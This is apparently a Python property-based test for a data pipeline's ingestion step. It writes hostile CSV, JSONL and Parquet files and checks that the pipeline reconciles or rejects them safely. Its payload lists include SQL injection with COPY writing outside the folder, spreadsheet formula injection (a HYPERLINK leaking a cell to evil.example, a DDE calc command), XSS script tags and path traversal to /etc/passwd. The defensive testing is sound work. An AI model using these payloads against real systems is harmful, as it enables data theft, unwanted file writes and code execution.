"""A standing guard: random hostile landing files of every entity and format, landing -> staging.

Each example writes a small valid provider (tests.builders.known_msp) plus a few generated files
whose headers, names, line endings and values come from a grammar of the adversarial review's
cases (quotes, semicolons, NUL, SQL fragments, formulas, control characters, impossible dates,
non-finite numbers, glob characters in names, duplicated JSON keys, links out of the folder).
Then it runs the real landing -> raw -> staging assets over January-March 2026 and asserts:

- the run finishes, or stops with a message that names a delivered file;
- every delivered file reconciles (delivered = accepted + quarantined + superseded, none pending),
  and its delivered count is the number of rows the test wrote (counted apart from any parser);
- nothing is written outside the run's folders, and nothing of a linked-in file is read.

`MSP_HYPOTHESIS_EXAMPLES` raises the number of examples (default 3, about 45 s on 2 cores).
"""

import csv
import importlib
import io
import json
import os
import tempfile
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.builders import known_msp
from tests.publish_demo import set_msp_paths
from warehouse.contract import CANONICAL, REQUIRED

FIRST, LAST = "2026-01-01", "2026-03-01"
AS_OF = "2026-03-31T23:00:00+00:00"
STAGES = ("landing_files", "raw_clients", "raw_review_decisions", "raw_ticket_events",
          "raw_time_entries", "raw_tickets", "staging_clients", "staging_review_decisions",
          "staging_tickets", "staging_ticket_events", "business_calendars", "staging_time_entries")
EXAMPLES = int(os.environ.get("MSP_HYPOTHESIS_EXAMPLES", "3"))
CANARY = "SECRET-CANARY-7d1f"
# The SQL of the review's case 17, aimed at a file beside the landing folder: it must never appear.
ESCAPE_TARGET = "{root}/outside/written-by-sql.txt"

# Strings from the review's cases: quoting, SQL, formulas, control characters, markup, paths.
HOSTILE_TEXT = [
    '"', "'", ";", "\x00", "\n", "\r\n", "\r", '","', "\t", "\x0b", "\x1b[31m", "С001",
    "\u00a0ACME ", "{{7*7}}", "</script><script>alert(1)</script>", "../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3", "x\") AS _extra; COPY (SELECT 1 AS a) TO '" + ESCAPE_TARGET + "'; --",
    "'); COPY (SELECT 1 AS a) TO '" + ESCAPE_TARGET + "'; --", "a" * 400, "", " ", "NULL",
    "null", "\\N", "😀 emoji", "\ufeffBOM",
]
TIMESTAMPS = [
    "2026-01-14T10:00:00+00:00", "2026-01-14T10:00:00Z", "2026-02-03T08:30:00+05:30",
    "2026-03-10 09:15:00", "2026-02-20T12:00:00.123456+00:00", "1900-01-15T10:00:00Z",
    "2200-01-15T10:00:00Z", "2026-02-30T10:00:00Z", "1768212000", "2026-01-14T25:00:00Z",
    "14/01/2026 10:00", "not a date", "", "2026-01-14 10:00:00 Europe/London",
]
NUMBERS = ["30", "0", "-5", "NaN", "Infinity", "-inf", "1e300", "0.6", "abc", "", "12.5", "1,5"]
BOOLS = ["true", "false", "yes", "0", "maybe", ""]
TICKET_IDS = ["A-J00", "A-J01", "A-OUT1", "B-J00", "NOPE-9", "../../tid", "T\x00X", ""]
CLIENT_IDS = ["ACME", "BETA", "GAMMA", "a/b", "..", "ACME#2?x=1%2F", "NUL\x00ID", "x" * 120, ""]
EXTRA_HEADERS = ['Customer "VIP" flag', "x'); --", "a;b", "sentiment", "Subject", "über",
                 'x") AS _extra FROM t; COPY (SELECT 1) TO \'' + ESCAPE_TARGET + "'; --"]
NAME_STEMS = ["plain", "star*", "q?", "b[1]", "quote'", 'dq"', "semi;colon", "sp ace", "ünï"]
VALUES_BY_KIND = {"text": HOSTILE_TEXT, "ts": TIMESTAMPS, "num": NUMBERS, "bool": BOOLS,
                  "ticket": TICKET_IDS, "client": CLIENT_IDS}


def _kind(column: str) -> str:
    if column.endswith("_at") or column == "valid_from":
        return "ts"
    if column in ("minutes", "seats", "hourly_rate", "affected_users"):
        return "num"
    if column in ("declared_emergency", "billable", "is_public", "after_hours_coverage",
                  "source_sla_met"):
        return "bool"
    if column in ("ticket_id", "parent_ticket_id"):
        return "ticket"
    if column == "client_id":
        return "client"
    return "text"


@dataclass
class Delivery:
    """One generated landing file: where it goes, what it holds and how it is written."""

    relative: str
    columns: list[str]
    rows: list[dict]
    ending: str = "\n"
    duplicate_key: bool = False
    ascii_only: bool = True

    def render(self, root: Path) -> bytes:
        """The file's bytes, with the SQL payloads aimed at `root` (Parquet is written whole)."""
        rows = [{c: v.replace("{root}", str(root)) for c, v in r.items()} for r in self.rows]
        columns = [c.replace("{root}", str(root)) for c in self.columns]
        rows = [dict(zip(columns, r.values(), strict=True)) for r in rows]
        fmt = self.relative.rsplit(".", 1)[1]
        if fmt == "csv":
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="\n" if self.ending == "mixed" else self.ending
                       ).writerow(columns)
            for i, row in enumerate(rows):
                ending = ("\r\n" if i % 2 else "\n") if self.ending == "mixed" else self.ending
                csv.writer(buffer, lineterminator=ending).writerow([row[c] for c in columns])
            return buffer.getvalue().encode("utf-8")
        if fmt == "jsonl":
            lines = []
            for row in rows:
                text = json.dumps(row, ensure_ascii=self.ascii_only)
                if self.duplicate_key:  # a key twice in one object (case 40): never silently one
                    text = text[:-1] + ", " + json.dumps(columns[0]) + ': "other"}'
                lines.append(text)
            return ("\n".join(lines) + "\n").encode("utf-8")
        buffer = io.BytesIO()
        pd.DataFrame(rows, columns=columns).astype("string").to_parquet(buffer)
        return buffer.getvalue()


@st.composite
def deliveries(draw: st.DrawFn) -> Delivery:
    entity = draw(st.sampled_from(sorted(CANONICAL)))
    fmt = draw(st.sampled_from(["csv", "jsonl", "parquet"]))
    columns = list(CANONICAL[entity])
    optional = [c for c in columns if c not in REQUIRED[entity]]
    dropped = draw(st.lists(st.sampled_from(optional), unique=True, max_size=2)) if optional else []
    columns = [c for c in columns if c not in dropped]
    columns += draw(st.lists(st.sampled_from(EXTRA_HEADERS), unique=True, max_size=2))
    columns = draw(st.permutations(columns))
    rows = []
    for _ in range(draw(st.integers(min_value=1, max_value=6))):
        row = {}
        for c in columns:
            pool = VALUES_BY_KIND[_kind(c)]
            # Mostly plausible values, so rows reach staging; sometimes a hostile one.
            row[c] = draw(st.sampled_from(pool[:3] if draw(st.booleans()) else pool))
        rows.append(row)
    stem = draw(st.sampled_from(NAME_STEMS)) + str(draw(st.integers(0, 999)))
    return Delivery(
        relative=f"{entity}/{entity}_{stem}.{fmt}", columns=columns, rows=rows,
        ending=draw(st.sampled_from(["\r\n", "\n", "mixed"])),
        duplicate_key=fmt == "jsonl" and draw(st.booleans()), ascii_only=draw(st.booleans()),
    )


def _failure_messages(result: dg.ExecuteInProcessResult) -> list[str]:
    messages = []
    for event in result.all_events:
        if event.is_failure or event.event_type_value == "ASSET_CHECK_EVALUATION":
            messages.append(str(event.message or ""))
            data = getattr(event, "event_specific_data", None)
            error = getattr(data, "error", None)
            if error is not None:
                messages.append(error.to_string())
    return messages


def _run(root: Path) -> tuple[dg.ExecuteInProcessResult, Path]:
    with pytest.MonkeyPatch.context() as mp:
        set_msp_paths(mp, root)
        mp.setenv("MSP_AS_OF", AS_OF)
        mp.setenv("MSP_MONTH_WORKERS", "1")
        mp.delenv("DAGSTER_HOME", raising=False)
        import pipelines.definitions

        defs = importlib.reload(pipelines.definitions).defs
        job = defs.resolve_implicit_global_asset_job_def()
        result = job.execute_in_process(
            asset_selection=[dg.AssetKey(name) for name in STAGES],
            tags={"dagster/asset_partition_range_start": FIRST,
                  "dagster/asset_partition_range_end": LAST},
            instance=dg.DagsterInstance.ephemeral(), raise_on_error=False,
        )
    return result, root / "warehouse.duckdb"


def _string_columns(con: duckdb.DuckDBPyConnection) -> list[tuple[str, str, str]]:
    return con.execute(
        "SELECT table_schema, table_name, column_name FROM information_schema.columns"
        " WHERE data_type = 'VARCHAR' AND table_schema IN ('raw', 'staging', 'quality')"
    ).fetchall()


@settings(max_examples=EXAMPLES, deadline=None, derandomize=not os.environ.get("MSP_HYPOTHESIS_RANDOM"),
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
          phases=[Phase.explicit, Phase.reuse, Phase.generate], print_blob=True)
@given(files=st.lists(deliveries(), min_size=3, max_size=8), link_in=st.booleans())
def test_hostile_landing_files_reconcile_or_stop_naming_a_file(files: list[Delivery], link_in: bool):
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        landing = root / "landing"
        (root / "outside").mkdir()
        known_msp(landing)
        written: dict[str, int] = {}
        for delivery in files:
            path = landing / delivery.relative
            if path.exists() or delivery.relative in written:
                continue
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(delivery.render(root))
            written[delivery.relative] = len(delivery.rows)
        secret = root / "outside" / "secrets.txt"
        secret.write_text(f"ticket_id,client_id,created_at\n{CANARY},ACME,2026-01-14T10:00:00Z\n")
        if link_in:  # a link out of the landing folder (cases 14, 15): refused, never read
            (landing / "tickets" / "tickets_link.csv").symlink_to(secret)
        before_outside = sorted(p.name for p in (root / "outside").iterdir())

        result, warehouse = _run(root)

        names = [str(landing / r) for r in written] + list(written)
        if not result.success:
            messages = _failure_messages(result)
            assert any(name in m for m in messages for name in names), (
                "the run stopped without naming a delivered file:\n" + "\n".join(messages)[-3000:])
        assert sorted(p.name for p in (root / "outside").iterdir()) == before_outside, (
            "a file was written outside the run's folders")
        assert {p.name for p in root.iterdir()} <= {"landing", "outside", "published",
                                                    "warehouse.duckdb", "warehouse.duckdb.wal"}
        if not result.success:
            return
        with duckdb.connect(str(warehouse), read_only=True) as con:
            recon = con.execute(
                "SELECT path, delivered, accepted, quarantined, superseded, pending, reconciles"
                " FROM quality.file_reconciliation").fetchall()
            for schema, table, column in _string_columns(con):
                leaked = con.execute(
                    f'SELECT count(*) FROM "{schema}"."{table}" WHERE contains("{column}", ?)',
                    [CANARY]).fetchone()[0]
                assert leaked == 0, f"the linked file's content reached {schema}.{table}.{column}"
        by_path = {r[0]: r for r in recon}
        for row in recon:
            assert row[-1], f"does not reconcile: {row}"
        for relative, rows in written.items():
            matches = [r for p, r in by_path.items() if p.endswith(relative)]
            assert matches, f"{relative} was never registered"
            assert matches[0][1] == rows, (
                f"{relative}: {rows} rows delivered, {matches[0][1]} counted: {matches[0]}")
